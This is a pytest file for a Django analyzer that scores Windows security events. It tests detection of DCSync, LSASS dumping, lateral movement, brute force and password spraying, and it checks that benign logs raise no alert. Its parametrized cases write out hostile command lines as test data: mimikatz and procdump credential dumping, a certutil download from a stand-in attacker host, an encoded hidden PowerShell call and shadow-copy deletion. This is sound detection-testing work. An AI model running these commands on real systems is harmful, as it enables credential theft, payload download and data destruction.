"""The offline analyzer on real Windows records (../shared/data) and on hand-made edge cases."""

from __future__ import annotations

import json
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from django.conf import settings

from events.ai.builtin import BuiltinAnalyzer
from events.analysis import run_batch
from events.models import AnalysisStatus, SecurityEvent
from events.normalize import normalize_record

pytestmark = pytest.mark.django_db

DATA = Path(settings.BASE_DIR).parent / "shared" / "data" / "windows"
ATTACKS = DATA / "attacks" / "eas_credaccess_latmove_security.jsonl"
SYSMON = DATA / "attacks" / "eas_lsass_dumping_sysmon.jsonl"
BENIGN = sorted((DATA / "benign").glob("evtxrs_security_background_*.jsonl"))
T0 = datetime(2026, 1, 5, 9, 0, tzinfo=UTC)


def records(path: Path, predicate=lambda r: True) -> list[dict]:
    with path.open() as handle:
        return [r for r in map(json.loads, handle) if predicate(r)]


def stored(record: dict) -> SecurityEvent:
    return SecurityEvent.objects.create(**normalize_record(record))


def verdict(record: dict):
    return BuiltinAnalyzer().analyze_one(stored(record))


def first(path: Path, **match) -> dict:
    return records(path, lambda r: all(r.get(k) == v for k, v in match.items()))[0]


def test_audit_log_cleared_is_defense_evasion_above_the_alert_threshold():
    result = verdict(first(ATTACKS, EventID=1102))
    assert result.score > 85 and result.category == "defense_evasion"
    assert "cleared by jbrown" in result.description


def test_dcsync_by_a_user_account_is_credential_access():
    result = verdict(first(ATTACKS, EventID=4662, SubjectUserName="Administrator"))
    assert result.score >= 95 and result.category == "credential_access"
    assert "DCSync" in result.description and "DS-Replication-Get-Changes" in result.description


def test_a_hidden_dollar_account_creation_is_a_backdoor():
    result = verdict(first(ATTACKS, EventID=4720, TargetUserName="$"))
    assert result.score > 85 and result.category == "persistence"


def test_a_member_added_to_administrators_is_privilege_escalation_worth_a_notification():
    result = verdict(first(ATTACKS, EventID=4732, TargetUserName="Administrators"))
    assert 70 < result.score <= 85 and result.category == "privilege_escalation"
    assert "'Administrators'" in result.description


def test_a_member_added_to_domain_admins_is_alert_worthy():
    event = SecurityEvent.objects.create(
        computer="DC-01",
        event_code=4728,
        severity=4,
        raw={
            "EventID": 4728,
            "TargetUserName": "Domain Admins",
            "MemberName": "CN=eve",
            "SubjectUserName": "mallory",
        },
    )
    assert BuiltinAnalyzer().analyze_one(event).score > 85


def test_psexec_like_service_binary_pushed_over_admin_share_is_lateral_movement():
    result = verdict(first(ATTACKS, EventID=5145, RelativeTargetName="System32\\RemComSvc.exe"))
    assert result.score > 70 and result.category == "lateral_movement"


def test_lsass_opened_by_a_dumper_is_credential_dumping_in_sysmon():
    lsass = records(
        SYSMON,
        lambda r: (
            r["EventID"] == 10
            and str(r.get("TargetImage", "")).lower().endswith("lsass.exe")
            and str(r.get("GrantedAccess", "")).lower()
            in {"0x1010", "0x1410", "0x1fffff", "0x1438"}
        ),
    )
    assert lsass, "the recorded sample has LSASS access events"
    result = verdict(lsass[0])
    assert result.score > 85 and result.category == "credential_access"


@pytest.mark.parametrize(
    ("command", "category"),
    [
        ('mimikatz.exe "sekurlsa::logonpasswords" exit', "credential_access"),
        ("procdump.exe -accepteula -ma lsass.exe C:\\t\\l.dmp", "credential_access"),
        (
            "rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 624 C:\\t\\l.dmp full",
            "credential_access",
        ),
        ("certutil.exe -urlcache -split -f http://evil.example/a.exe a.exe", "execution"),
        (
            "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA",
            "execution",
        ),
        ("PsExec64.exe \\\\dc01 -s cmd.exe", "lateral_movement"),
        ("vssadmin.exe delete shadows /all /quiet", "impact"),
        ("net localgroup administrators eviluser /add", "privilege_escalation"),
    ],
)
def test_attack_tool_command_lines_score_as_likely_malicious(command, category):
    event = SecurityEvent.objects.create(
        computer="WS-1",
        event_code=4688,
        severity=3,
        raw={"EventID": 4688, "CommandLine": command, "SubjectUserName": "bob"},
    )
    result = BuiltinAnalyzer().analyze_one(event)
    assert result.score > 70 and result.category == category
    assert command[:40] in result.description


def test_an_ordinary_process_is_benign():
    event = SecurityEvent.objects.create(
        computer="WS-1",
        event_code=4688,
        severity=3,
        raw={
            "EventID": 4688,
            "NewProcessName": "C:\\Windows\\System32\\notepad.exe",
            "CommandLine": "notepad.exe report.txt",
        },
    )
    assert BuiltinAnalyzer().analyze_one(event).score <= 10


@pytest.mark.parametrize(
    ("path", "score_above"),
    [("C:\\Windows\\PSEXESVC.exe", 85), ("%COMSPEC% /b /c start /b /min powershell -nop", 85)],
)
def test_service_installs_of_remote_execution_tools_are_flagged(path, score_above):
    event = SecurityEvent.objects.create(
        computer="SRV-1",
        event_code=7045,
        severity=4,
        source_type="Windows System",
        raw={"EventID": 7045, "ServiceName": "svc", "ServiceFileName": path},
    )
    assert BuiltinAnalyzer().analyze_one(event).score > score_above


def test_an_ordinary_service_install_is_only_suspicious():
    event = SecurityEvent.objects.create(
        computer="SRV-1",
        event_code=7045,
        severity=4,
        raw={
            "EventID": 7045,
            "ServiceName": "Contoso Updater",
            "ServiceFileName": '"C:\\Program Files\\Contoso\\update.exe"',
        },
    )
    result = BuiltinAnalyzer().analyze_one(event)
    assert 30 <= result.score <= 70 and result.category == "persistence"


def failed_logon(minute: float, user: str = "alice", ip: str = "203.0.113.9") -> SecurityEvent:
    return stored(
        {
            "EventID": 4625,
            "Computer": "DC-01",
            "TimeCreated": (T0 + timedelta(minutes=minute)).isoformat(),
            "TargetUserName": user,
            "IpAddress": ip,
            "Status": "0xc000006d",
            "SubStatus": "0xc000006a",
            "LogonType": 3,
        }
    )


def test_a_single_failed_logon_is_noise_but_a_burst_is_brute_force():
    single = failed_logon(0)
    assert BuiltinAnalyzer().analyze_one(single).score < 50

    burst = [failed_logon(0.1 * n) for n in range(1, 12)]
    result = BuiltinAnalyzer().analyze_one(burst[-1])
    assert result.score > 70 and result.category == "brute_force"
    assert "12 failed logons for account 'alice'" in result.description


def test_failures_outside_the_window_do_not_count():
    for n in range(12):
        failed_logon(-60 - n)  # an hour earlier
    assert BuiltinAnalyzer().analyze_one(failed_logon(0)).score < 50


def test_many_accounts_from_one_source_is_password_spraying():
    for n in range(6):
        last = failed_logon(0.2 * n, user=f"user{n}")
    result = BuiltinAnalyzer().analyze_one(last)
    assert result.score > 85 and "spraying" in result.description


@pytest.mark.parametrize("path", BENIGN, ids=lambda p: p.stem)
def test_the_benign_background_logs_raise_no_alert(path):
    """2,261 and 636 everyday events (B with 15 scattered failed logons): no automatic alert;
    the only notifications are users added to Administrators by a person, which an analyst
    wants to see even on a healthy host."""
    for record in records(path):
        stored(record)
    verdicts = BuiltinAnalyzer().analyze(list(SecurityEvent.objects.all()))
    assert len(verdicts) == len(records(path)) > 600
    assert max(v.score for v in verdicts.values()) <= settings.AI_ALERT_THRESHOLD
    notified = {
        (e.event_code, verdicts[e.event_id].category)
        for e in SecurityEvent.objects.all()
        if verdicts[e.event_id].score > settings.AI_NOTIFY_THRESHOLD
    }
    assert notified <= {(4732, "privilege_escalation")}


def test_the_builtin_provider_runs_through_the_queue(settings):
    settings.AI_PROVIDER = "builtin"
    stored(first(ATTACKS, EventID=1102))
    result = run_batch()
    event = SecurityEvent.objects.get()
    assert result.analyzed == 1
    assert (event.ai_status, event.ai_provider, event.ai_category) == (
        AnalysisStatus.DONE,
        "builtin",
        "defense_evasion",
    )


def test_the_celery_task_runs_a_batch_and_returns_a_json_summary(settings):
    from events.tasks import analyze_pending_events

    settings.AI_PROVIDER = "builtin"
    settings.AI_BATCH_SIZE = 2
    for record in records(ATTACKS, lambda r: r["EventID"] == 1102)[:3]:
        stored(record)

    summary = analyze_pending_events.apply().get()

    assert json.loads(json.dumps(summary)) == summary
    assert (summary["claimed"], summary["analyzed"], summary["error"]) == (2, 2, "")
    assert SecurityEvent.objects.filter(ai_status=AnalysisStatus.PENDING).count() == 1


def test_check_ai_provider_works_offline_with_the_builtin_analyzer():
    from io import StringIO

    from django.core.management import call_command

    out = StringIO()
    call_command("check_ai_provider", "--provider", "builtin", stdout=out)
    assert "Checking builtin (offline rules" in out.getvalue()
    assert "OK: answered in" in out.getvalue() and "category credential_access" in out.getvalue()
